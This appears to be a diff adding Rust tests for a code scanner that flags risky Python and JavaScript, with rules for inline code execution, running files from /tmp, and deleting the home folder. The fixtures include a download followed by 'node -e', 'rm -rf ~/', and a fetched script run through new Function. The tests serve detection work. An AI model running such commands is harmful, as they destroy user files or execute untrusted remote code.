@@ -231,6 +231,29 @@ fn a_program_that_its_user_starts_is_not_imported() {
 }
 
 #[test]
+fn a_script_by_its_name_is_no_code_from_elsewhere() {
+    let script = "import subprocess, requests\nrequests.get('https://files.invalid/x')\n\
+        subprocess.call(['node', 'convert.js', 'x'])\n";
+    lacks(&module(script), "M-04");
+    found(&module(&script.replace("'convert.js', 'x'", "'-e', code")), "M-04");
+}
+
+#[test]
+fn a_folder_called_tmp_is_the_programs_own() {
+    let own = "import subprocess, requests\nrequests.get('https://files.invalid/x')\n\
+        subprocess.call(['made-up', './tmp/x'])\n";
+    lacks(&module(own), "M-01");
+    found(&module(&own.replace("./tmp", "/tmp")), "M-01");
+}
+
+#[test]
+fn a_cache_in_the_home_folder_is_not_the_home_folder() {
+    let cache = "import os\nos.system('rm -rf ~/.made-up/cache')\n";
+    lacks(&module(cache), "R-22");
+    found(&module(&cache.replace("~/.made-up/cache", "~/")), "R-22");
+}
+
+#[test]
 fn a_pages_script_in_a_python_package_runs_where_it_is_started() {
     let page = "fetch('https://files.invalid/x').then(r => r.text()).then(t => new Function(t)());\n";
     let beside =
